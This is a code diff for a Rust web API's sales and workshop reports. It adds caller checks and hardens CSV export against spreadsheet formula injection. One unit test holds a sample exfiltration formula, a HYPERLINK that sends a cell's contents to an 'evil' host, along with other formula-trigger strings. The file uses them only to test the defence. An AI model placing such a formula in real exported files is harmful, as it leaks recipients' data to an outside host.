@@ -7,10 +7,12 @@ use crate::domain::money::Money;
 use crate::domain::reports::{
     Breakdown, CategorySales, Granularity, ProductSales, SalesBucket, WorkshopGroup, WorkshopStanding,
 };
+use crate::domain::time::Day;
+use crate::http::access::Caller;
 use crate::http::extract::{BodyRules, Query};
-use crate::http::problem::ApiResult;
+use crate::http::problem::{ApiError, ApiResult};
 use actix_web::http::header;
-use actix_web::{get, web, HttpRequest, HttpResponse};
+use actix_web::{get, web, HttpRequest, HttpResponse, ResponseError};
 use chrono::NaiveDate;
 use serde::{Deserialize, Serialize};
 use utoipa::{IntoParams, ToSchema};
@@ -22,9 +24,11 @@ use validator::Validate;
 #[into_params(parameter_in = Query)]
 pub struct SalesQuery {
     /// First day (UTC, `YYYY-MM-DD`), included; default 29 days before `to`.
-    pub from: Option<NaiveDate>,
+    #[param(value_type = Option<NaiveDate>)]
+    pub from: Option<Day>,
     /// Last day (UTC, `YYYY-MM-DD`), included; default today. At most 1,098 days after `from`.
-    pub to: Option<NaiveDate>,
+    #[param(value_type = Option<NaiveDate>)]
+    pub to: Option<Day>,
     /// `day` (default), `week` (ISO weeks, Monday to Sunday) or `month`.
     #[param(inline)]
     pub granularity: Option<Granularity>,
@@ -104,26 +108,29 @@ fn wants_csv(req: &HttpRequest) -> bool {
     }
 }
 
-/// A CSV document (RFC 4180: CRLF line ends, a header row, fields quoted when they hold a comma,
-/// a quote or a line break).
+/// A CSV document (RFC 4180, written by the `csv` crate: CRLF line ends, a header row, fields
+/// quoted when they must be). Text a spreadsheet would run as a formula (OWASP's rule: a cell
+/// starting with `=`, `+`, `-`, `@`, TAB or CR) gets a leading `'`; numbers such as `-12.50` stay
+/// numbers.
 fn csv_response(header_row: &[&str], rows: impl Iterator<Item = Vec<String>>) -> HttpResponse {
-    fn field(text: &str) -> std::borrow::Cow<'_, str> {
-        if text.contains([',', '"', '\r', '\n']) {
-            format!("\"{}\"", text.replace('"', "\"\"")).into()
-        } else {
-            text.into()
-        }
+    let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
+    let written = writer.write_record(header_row).and_then(|()| {
+        rows.into_iter().try_for_each(|row| writer.write_record(row.iter().map(|cell| inert(cell).into_owned())))
+    });
+    match (written, writer.into_inner()) {
+        (Ok(()), Ok(body)) => HttpResponse::Ok().content_type("text/csv; charset=utf-8").body(body),
+        _ => ApiError::from(AppError::Internal(anyhow::anyhow!("a CSV report could not be written"))).error_response(),
     }
-    let line = |fields: &mut dyn Iterator<Item = &str>| {
-        let mut out = fields.map(field).collect::<Vec<_>>().join(",");
-        out.push_str("\r\n");
-        out
-    };
-    let mut body = line(&mut header_row.iter().copied());
-    for row in rows {
-        body.push_str(&line(&mut row.iter().map(String::as_str)));
+}
+
+/// The cell as text a spreadsheet shows rather than evaluates.
+fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
+    let number = cell.parse::<rust_decimal::Decimal>().is_ok();
+    if !number && cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
     }
-    HttpResponse::Ok().content_type("text/csv; charset=utf-8").body(body)
 }
 
 /// Sales over time
@@ -145,12 +152,13 @@ fn csv_response(header_row: &[&str], rows: impl Iterator<Item = Vec<String>>) ->
 )]
 #[get("/reports/sales")]
 pub async fn sales_report(
+    _caller: Caller,
     state: web::Data<AppState>,
     req: HttpRequest,
     query: Query<SalesQuery>,
 ) -> ApiResult<HttpResponse> {
     let query = query.0;
-    let period = reports::period(query.from, query.to)?;
+    let period = reports::period(query.from.map(Day::get), query.to.map(Day::get))?;
     let granularity = query.granularity.unwrap_or(Granularity::Day);
     let report = reports::sales(&state, period, granularity).await?;
     let items: Vec<SalesFigures> = report.buckets.iter().map(SalesFigures::from).collect();
@@ -184,9 +192,11 @@ pub async fn sales_report(
 #[into_params(parameter_in = Query)]
 pub struct PeriodQuery {
     /// First day (UTC, `YYYY-MM-DD`), included; default 29 days before `to`.
-    pub from: Option<NaiveDate>,
+    #[param(value_type = Option<NaiveDate>)]
+    pub from: Option<Day>,
     /// Last day (UTC, `YYYY-MM-DD`), included; default today. At most 1,098 days after `from`.
-    pub to: Option<NaiveDate>,
+    #[param(value_type = Option<NaiveDate>)]
+    pub to: Option<Day>,
 }
 
 impl BodyRules for PeriodQuery {}
@@ -368,11 +378,12 @@ impl From<KpiReport> for KpiResponse {
 )]
 #[get("/reports/kpis")]
 pub async fn kpi_report(
+    _caller: Caller,
     state: web::Data<AppState>,
     req: HttpRequest,
     query: Query<PeriodQuery>,
 ) -> ApiResult<HttpResponse> {
-    let period = reports::period(query.0.from, query.0.to)?;
+    let period = reports::period(query.0.from.map(Day::get), query.0.to.map(Day::get))?;
     let report = KpiResponse::from(reports::kpis(&state, period).await?);
     if wants_csv(&req) {
         let flat = flatten(&serde_json::to_value(&report).map_err(|e| AppError::Internal(e.into()))?);
@@ -422,9 +433,11 @@ fn flatten(value: &serde_json::Value) -> Vec<(String, String)> {
 #[into_params(parameter_in = Query)]
 pub struct RankingQuery {
     /// First day (UTC, `YYYY-MM-DD`), included; default 29 days before `to`.
-    pub from: Option<NaiveDate>,
+    #[param(value_type = Option<NaiveDate>)]
+    pub from: Option<Day>,
     /// Last day (UTC, `YYYY-MM-DD`), included; default today. At most 1,098 days after `from`.
-    pub to: Option<NaiveDate>,
+    #[param(value_type = Option<NaiveDate>)]
+    pub to: Option<Day>,
     /// Entries per ranking, 1 to 100 (default 10).
     #[param(minimum = 1, maximum = 100)]
     #[validate(range(min = 1, max = 100))]
@@ -517,11 +530,12 @@ pub struct ProductReportResponse {
 )]
 #[get("/reports/products")]
 pub async fn product_report(
+    _caller: Caller,
     state: web::Data<AppState>,
     req: HttpRequest,
     query: Query<RankingQuery>,
 ) -> ApiResult<HttpResponse> {
-    let period = reports::period(query.0.from, query.0.to)?;
+    let period = reports::period(query.0.from.map(Day::get), query.0.to.map(Day::get))?;
     let limit = ranking_limit(query.0.limit);
     let report = reports::products(&state, period, limit).await?;
     if wants_csv(&req) {
@@ -609,11 +623,12 @@ pub struct ClientReportResponse {
 )]
 #[get("/reports/clients")]
 pub async fn client_report(
+    _caller: Caller,
     state: web::Data<AppState>,
     req: HttpRequest,
     query: Query<RankingQuery>,
 ) -> ApiResult<HttpResponse> {
-    let period = reports::period(query.0.from, query.0.to)?;
+    let period = reports::period(query.0.from.map(Day::get), query.0.to.map(Day::get))?;
     let limit = ranking_limit(query.0.limit);
     let report = reports::clients(&state, period, limit).await?;
     let top_clients: Vec<TopClientFigures> = report
@@ -659,9 +674,11 @@ pub async fn client_report(
 #[into_params(parameter_in = Query)]
 pub struct WorkshopQuery {
     /// First day (UTC, `YYYY-MM-DD`), included; default 29 days before `to`.
-    pub from: Option<NaiveDate>,
+    #[param(value_type = Option<NaiveDate>)]
+    pub from: Option<Day>,
     /// Last day (UTC, `YYYY-MM-DD`), included; default today. At most 1,098 days after `from`.
-    pub to: Option<NaiveDate>,
+    #[param(value_type = Option<NaiveDate>)]
+    pub to: Option<Day>,
     /// The income series by `day`, `week` (ISO) or `month` (default).
     #[param(inline)]
     pub granularity: Option<Granularity>,
@@ -828,11 +845,12 @@ pub struct WorkshopReportResponse {
 )]
 #[get("/reports/workshops")]
 pub async fn workshop_report(
+    _caller: Caller,
     state: web::Data<AppState>,
     req: HttpRequest,
     query: Query<WorkshopQuery>,
 ) -> ApiResult<HttpResponse> {
-    let period = reports::period(query.0.from, query.0.to)?;
+    let period = reports::period(query.0.from.map(Day::get), query.0.to.map(Day::get))?;
     let granularity = query.0.granularity.unwrap_or(Granularity::Month);
     let limit = ranking_limit(query.0.limit);
     let report = reports::workshops(&state, period, granularity, limit).await?;
@@ -940,6 +958,24 @@ mod tests {
             csv_response(&["name", "value"], [vec!["a,b".to_string(), "say \"hi\"".to_string()]].into_iter());
         let body = response.into_body().try_into_bytes().unwrap_or_default();
         assert_eq!(&body[..], b"name,value\r\n\"a,b\",\"say \"\"hi\"\"\"\r\n");
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_as_formulas_are_made_text() {
+        let rows = [vec![
+            "=HYPERLINK(\"https://evil/?\"&A2,\"x\")".to_string(),
+            "+1+1".into(),
+            "-2+3".into(),
+            "@SUM(A1)".into(),
+            "\tx".into(),
+            "-12.50".into(),
+            "Ada".into(),
+        ]];
+        let response = csv_response(&["a", "b", "c", "d", "e", "f", "g"], rows.into_iter());
+        let body = response.into_body().try_into_bytes().unwrap_or_default();
+        let text = String::from_utf8_lossy(&body);
+        let cells = text.lines().nth(1).unwrap_or_default();
+        assert_eq!(cells, "\"'=HYPERLINK(\"\"https://evil/?\"\"&A2,\"\"x\"\")\",'+1+1,'-2+3,'@SUM(A1),'\tx,-12.50,Ada");
     }
 
     #[test]
